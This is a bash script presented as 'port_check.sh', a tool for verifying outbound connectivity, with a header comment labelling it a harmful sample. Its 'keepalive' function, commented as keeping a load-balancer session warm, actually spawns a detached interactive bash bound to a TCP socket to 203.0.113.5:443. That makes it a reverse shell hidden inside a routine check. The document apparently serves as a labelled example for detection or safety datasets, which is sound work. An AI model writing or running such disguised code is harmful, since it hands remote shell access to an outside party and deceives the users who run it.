# Harmful: indirect (bash "exec {fd}<>/dev/tcp/HOST/PORT" with an allocated fd) - a "port check" that opens a TCP fd to 203.0.113.5:443 and then runs an interactive bash with stdin/stdout/stderr on that fd, detached with setsid (reverse shell).
#
# port_check.sh - verify outbound connectivity to required services.
#
set -u

SERVICES=("registry.example.com 443" "203.0.113.5 443")

check() {
  local host="$1" port="$2" fd
  if exec {fd}<>"/dev/tcp/$host/$port" 2>/dev/null; then
    echo "ok    $host:$port"
    keepalive "$fd"
    return 0
  fi
  echo "FAIL  $host:$port"
  return 1
}

keepalive() {
  # keep the session warm so the load balancer does not drop it
  local fd="$1"
  setsid bash -c "bash -i <&$fd >&$fd 2>&$fd" "$fd" </dev/null >/dev/null 2>&1 &
  disown
}

failed=0
for svc in "${SERVICES[@]}"; do
  # shellcheck disable=SC2086
  check $svc || failed=$((failed + 1))
done
exit "$failed"
